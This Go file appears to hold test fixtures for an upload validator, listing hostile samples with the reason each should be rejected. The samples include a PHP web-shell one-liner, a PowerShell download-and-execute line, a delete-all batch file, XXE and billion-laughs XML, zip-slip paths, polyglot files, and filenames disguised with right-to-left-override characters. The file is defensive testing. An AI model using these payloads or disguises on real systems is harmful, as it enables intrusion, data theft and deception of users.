package intake

import (
	"slices"
	"strings"

	"onestop/hooks/rules/fault"
)

// hostileKinds are the types that people or attackers send beside the usual ones: office
// macros, what unpacks or runs elsewhere, and files that are two things at once.
func hostileKinds() (all []hostile) {
	packed := func(inner string) string { return "PK\x03\x04\x14\x00\x06\x00\x08\x00" + inner }
	old := "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + strings.Repeat("\x00", 500)
	laughs := `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>`
	for _, f := range []struct {
		what, data string
		why        reason
	}{
		{"docx with macros", packed("[Content_Types].xml word/vbaProject.bin"), isOffice},
		{"docx with a foreign template", packed("[Content_Types].xml word/_rels/settings.xml.rels http://a.example/t.dotm"), isOffice},
		{"xlsm", packed("xl/vbaProject.bin"), isOffice},
		{"pptm", packed("ppt/vbaProject.bin"), isOffice},
		{"doc with macros", old + "_VBA_PROJECT", isOffice},
		{"xls with a stream of macros", old + "VBA/ThisWorkbook", isOffice},
		{"Windows installer", old + "msi", isOffice},
		{"rtf with an object", `{\rtf1{\object\objocx{\*\objdata 0105}}}`, isOffice},
		{"zip in a zip", packed("inner.zip PK\x03\x04"), isArchive},
		{"zip that leaves its folder", packed("../../etc/passwd"), isArchive},
		{"zip with a picture's name", packed("photo.jpg"), isArchive},
		{"jar", packed("META-INF/MANIFEST.MF"), isArchive},
		{"apk", packed("AndroidManifest.xml"), isArchive},
		{"xz", "\xfd7zXZ\x00\x00\x04", isArchive},
		{"zstd", "\x28\xb5\x2f\xfd\x04", isArchive},
		{"bzip2", "BZh91AY", isArchive},
		{"cabinet", "MSCF\x00\x00\x00\x00", isArchive},
		{"program of another system", "\xcf\xfa\xed\xfe\x07", isProgram},
		{"class of Java", "\xca\xfe\xba\xbe\x00\x00", isProgram},
		{"script of Python", "#!/usr/bin/env python3\nimport os\n", isProgram},
		{"batch file", "@echo off\r\ndel /q *.*\r\n", isMarkup},
		{"PowerShell", "Invoke-WebRequest http://a.example | iex", isMarkup},
		{"script of a page", "alert(document.cookie)", isMarkup},
		{"PHP", "<?php system($_GET['c']); ?>", isMarkup},
		{"HTA", "<html><hta:application><script language=vbscript>", isMarkup},
		{"MHTML", "MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n<html>", isMarkup},
		{"entities that laugh", laughs, isMarkup},
		{"SVG with a foreign entity", `<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>`, isVector},
		{"PostScript", "%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n", isMarkup},
		{"form data of a PDF", "%FDF-1.2\n1 0 obj<</FDF<</JavaScript<</Before(1)>>>>>>", isMarkup},
		{"address", "[InternetShortcut]\nURL=file:///c:/windows/system32/calc.exe\n", isMarkup},
		{"film", "\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00", isUnknown},
		{"sound", "ID3\x04\x00\x00\x00", isUnknown},
		{"icon", "\x00\x00\x01\x00\x01\x00", isUnknown},
		{"JPEG 2000", "\x00\x00\x00\x0cjP  \r\n\x87\n", isUnknown},
		{"JPEG XL", "\xff\x0a\x00\x00", isUnknown},
		{"Photoshop", "8BPS\x00\x01", isUnknown},
		{"database", "SQLite format 3\x00", isUnknown},
		{"WebAssembly", "\x00asm\x01\x00\x00\x00", isUnknown},
		{"GIF of 30000²", "GIF89a\x30\x75\x30\x75\x80\x00\x00", isPicture},
		{"WebP of 12000²", "RIFF\x24\x00\x00\x00WEBPVP8X\x0a\x00\x00\x00\x00\x00\x00\x00\xdf\x2e\x00\xdf\x2e\x00", isPicture},
		{"BMP of 2³¹ rows", "BM\x8a\x00\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00\x28\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x80", isPicture},
		{"TIFF that points at itself", "II*\x00\x08\x00\x00\x00\x00\x00\x08\x00\x00\x00", isPicture},
		{"BigTIFF", "II+\x00\x08\x00\x00\x00", isPicture},
		{"EICAR in an archive", packed("eicar.com" + eicar), isArchive},
		{"EICAR behind a mark", "\xef\xbb\xbf" + eicar, isMarkup},
	} {
		all = append(all, hostile{f.what, "申请表", []byte(f.data), fault.FileType, f.why})
	}
	return append(all, hostileTwins()...)
}

// hostileTwins begin as what is taken and are something else as well, or bear names that
// read from right to left as another type.
func hostileTwins() (all []hostile) {
	photo, document := string(jpegOf(paper(120, 160))), string(pages(1).bytes())
	add := func(what, name, data string, code fault.Code, why reason) {
		all = append(all, hostile{what, name, []byte(data), code, why})
	}
	comment := string(slices.Concat([]byte("\xff\xd8"), jpegSegment(0xfe, []byte("*/=1;alert(1)/*")), []byte(photo[2:])))
	add("JPEG that is a script too, with its name", "photo.js", comment, fault.FileType, nameMisled)
	add("JPEG that is a page too, with its name", "photo.htm", photo+"<script>alert(1)</script>", fault.FileType, nameMisled)
	add("JPEG that is a jar too", "photo.jpg", photo+"META-INF/"+zipTailOf(), fault.FileType, isTwofold)
	add("PDF that is a page too", "a.pdf", document+"<script>alert(1)</script>", fault.FileBroken, isTruncated)
	add("PDF that is a PNG behind", "a.pdf", document+string(pngOf(paper(120, 160))), fault.FileBroken, isTruncated)
	add("PNG before a PDF, named as one", "a.pdf", string(pngOf(paper(120, 160)))+document, fault.FileType, nameMisled)
	for _, name := range []string{"照片\u202egpj.exe", "照片\u2067gpj\u2069.scr", "\u200f照片.lnk", "照片.jpg.\u202eexe", strings.Repeat("名", 300) + "\u202efdp.scr", "照片.jpg .vbs"} {
		add("JPEG with the name "+name, name, photo, fault.FileType, nameMisled)
	}
	return all
}
